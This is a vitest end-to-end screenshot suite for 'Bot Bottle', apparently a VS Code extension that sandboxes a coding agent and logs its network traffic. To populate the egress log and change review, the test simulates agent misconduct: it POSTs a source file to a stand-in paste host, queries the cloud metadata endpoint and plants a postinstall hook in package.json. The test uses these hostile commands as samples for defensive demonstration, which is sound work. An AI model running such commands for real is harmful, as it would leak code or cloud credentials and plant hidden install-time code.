import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeSample } from '../../scripts/sample/files.mjs';
import { openWindow, picture, shellManifests, type TestWindow } from '../e2e/support/window.ts';
import { createTestAuthority } from '../support/host/authority.ts';
import { extraCaFile } from '../support/host/extraCa.ts';
import { startModel, type ModelServer } from '../support/model/server.ts';
import { until } from '../support/until.ts';

const media = resolve(import.meta.dirname, '../../media/screenshots');

/** What the person asks for. */
const prompt = 'The test for the mean of no numbers fails. Please repair it.';

/** What the model does then. */
const script = [
  '{{bash:node --test 2>&1 | grep -E "^# (pass|fail)"}}',
  "{{bash:sed -i 's|return sum / numbers.length|return numbers.length === 0 ? 0 : sum / numbers.length|' src/mean.js}}",
  '{{bash:node --test 2>&1 | grep -E "^# (pass|fail)"}}',
  '{{say:The mean of no numbers is 0 now, and both tests pass.}}',
].join(' ');

/** What else the agent tries, for the review and the egress log. */
const more = [
  `sed -i 's|"test": "node --test"|"test": "node --test", "postinstall": "node setup.js"|' package.json`,
  `printf "import { mean } from './mean.js';\\n\\n/** The median of some numbers; 0 for none. */\\nexport function median(numbers) {\\n  const sorted = [...numbers].sort((a, b) => a - b);\\n  const half = sorted.length >> 1;\\n  return sorted.length %% 2 === 1 ? sorted[half] : mean(sorted.slice(half - 1, half + 1));\\n}\\n" > src/median.js`,
  'echo "The agent wrote this." >> README.md',
  'for path in is-odd left-pad; do curl -s -o /dev/null https://registry.npmjs.org/$path; done',
  'curl -s -m 5 -X POST -d @src/mean.js https://paste.example.com/upload',
  'curl -s -m 5 http://169.254.169.254/latest/meta-data/',
  'true',
].join('; ');

describe('pictures of the product', () => {
  const folder = join(mkdtempSync(join(tmpdir(), 'pictures-')), 'ada');
  let model: ModelServer;
  let window: TestWindow;
  const take = (name: string): Promise<void> => picture(window.vs, join(media, `${name}.png`));
  const quiet = async (): Promise<void> => {
    await window.vs.command('Notifications: Clear All Notifications');
    await window.vs.page.locator('.notifications-toasts .notification-list-item').first().waitFor({ state: 'detached' });
  };
  const theme = async (name: string, mark: string): Promise<void> => {
    await window.vs.command('Preferences: Color Theme');
    await window.vs.quick.enter(name);
    await window.vs.page.locator(`.monaco-workbench.${mark}`).waitFor();
  };

  beforeAll(async () => {
    mkdirSync(media, { recursive: true });
    const authority = createTestAuthority();
    model = await startModel(authority, script);
    mkdirSync(folder);
    writeSample(join(folder, 'mean'));
    const routes = ['egress:', '  routes:', '    - host: registry.npmjs.org', '      private_addresses: true', `    - host: ${model.host}`, '      private_addresses: true'];
    window = await openWindow({
      folder,
      name: 'mean',
      manifests: {
        ...shellManifests,
        'bottles/node.md': ['---', 'agent_provider:', '  template: claude', '  auth_token: BOT_BOTTLE_CLAUDE_OAUTH_TOKEN', 'env:', `  ANTHROPIC_BASE_URL: ${model.url}`, ...routes, '---', ''].join('\n'),
        'agents/claude.md': '---\nbottle: node\n---\nBe brief.\n',
      },
      env: { BOT_BOTTLE_BACKEND: 'bubblewrap', BOT_BOTTLE_CLAUDE_OAUTH_TOKEN: 'sk-ant-oat01-not-a-real-token', BOT_BOTTLE_EXTRA_CA: extraCaFile(folder, authority.certPem) },
      settings: { 'terminal.integrated.fontSize': 13, 'terminal.integrated.tabs.enabled': false },
    });
  }, 180_000);
  afterAll(async () => {
    await window?.close();
    await model?.close();
    rmSync(join(folder, '..'), { recursive: true, force: true });
  }, 120_000);

  test('start: what a bottle allows', { timeout: 600_000 }, async () => {
    const { vs } = window;
    await vs.sidebar('Bot Bottle');
    await vs.command('Bottle: Start Agent');
    await vs.quick.titled('agent');
    await vs.quick.pick('claude');
    await vs.quick.titled('label');
    await vs.quick.enter('fix the mean');
    await vs.quick.titled('colour');
    await vs.quick.pick('green');
    await vs.quick.titled('4/4');
    await take('start');
    await vs.quick.pick('Start');
    await vs.terminals.shows(/bypass permissions on/i, 540_000);
  });

  test('agent-working: terminal, bottles and traffic', async () => {
    const { vs } = window;
    await vs.command('Terminal: Move Terminal into Editor Area');
    await vs.treeItem('fix the mean').click();
    await vs.terminals.type(prompt);
    await vs.terminals.shows('Please repair it.');
    await vs.page.keyboard.press('Enter');
    await vs.terminals.shows('both tests pass.', 90_000);
    window.cli('exec', 'fix-the-mean', '--', 'sh', '-c', more);
    await vs.command('Bottle: Show Egress Log');
    const panel = await vs.webview('.list');
    await panel.getByText('paste.example.com').first().waitFor();
    await quiet();
    await take('agent-working');
  });

  test('egress: one refused request in full', async () => {
    const { vs } = window;
    const panel = await vs.webview('.list');
    await panel.getByText('paste.example.com').first().click();
    await panel.locator('.details').waitFor();
    await vs.command('View: Toggle Maximized Panel');
    await take('egress');
    await theme('Dark High Contrast', 'hc-black');
    await panel.locator('.list').focus();
    await take('high-contrast');
    await theme('Dark Modern', 'vs-dark');
    await vs.command('View: Toggle Maximized Panel');
    await vs.command('View: Hide Panel');
  });

  test('review: changes beside what they would do', async () => {
    const { vs } = window;
    writeFileSync(join(window.workspace, 'README.md'), '# Mean\n\nA sample that the person edits meanwhile.\n');
    await vs.command('Bottle: Review Changes');
    await vs.page.locator('.multiDiffEntry').nth(2).waitFor();
    await until('its text', async () => (await vs.page.locator('.multiDiffEntry .view-line').count()) > 8);
    // The code is coloured a moment later.
    await until('its colours', async () => new Set(await vs.page.locator('.multiDiffEntry .view-line span[class^="mtk"]').evaluateAll((spans) => spans.map((span) => span.className))).size > 8);
    await quiet();
    await take('review');
    await vs.command('View: Close Editor');
  });

  test('manifest: what the agent asked for is offered where routes are written', async () => {
    const { vs } = window;
    await vs.command('View: Close All Editors');
    await vs.sidebar('Bot Bottle');
    await vs.command('Bottle: Open Manifest');
    await vs.quick.titled('Open Manifest');
    await vs.quick.pick('node');
    await vs.page.locator('.codelens-decoration').first().waitFor();
    const { page } = vs;
    // To the end of the routes, and out by one step.
    for (const key of ['Control+End', 'ArrowUp', 'ArrowUp', 'End', 'Enter', 'Backspace']) await page.keyboard.press(key);
    await page.keyboard.type('- host: ');
    await until('the hosts that were asked for', async () => {
      await page.keyboard.press('Control+Space');
      return page.locator('.suggest-widget.visible .monaco-list-row', { hasText: 'paste.example.com' }).first().waitFor({ timeout: 3_000 }).then(() => true, () => false);
    });
    await take('manifest');
    await page.keyboard.press('Escape');
    await vs.command('File: Revert File');
  });

  test('bottles-light: several bottles in a light window', async () => {
    const { vs } = window;
    for (const [label, color] of [['look round', 'blue'], ['try the new API', 'magenta']] as const) {
      window.cli('start', 'shell', '--workspace', window.workspace, '--label', label, '--color', color, '--detach', '--yes');
    }
    await vs.command('View: Close All Editors');
    await theme('Light Modern', 'vs');
    await vs.treeItem('try the new API').waitFor();
    await vs.treeAction('look round', 'Attach');
    await vs.terminals.shows('/workspace$');
    await vs.terminals.type('id; ls; curl -sS https://example.com\n');
    await vs.terminals.shows('curl:');
    await quiet();
    await take('bottles-light');
    expect(await vs.terminals.count()).toBeGreaterThan(0);
  });
});
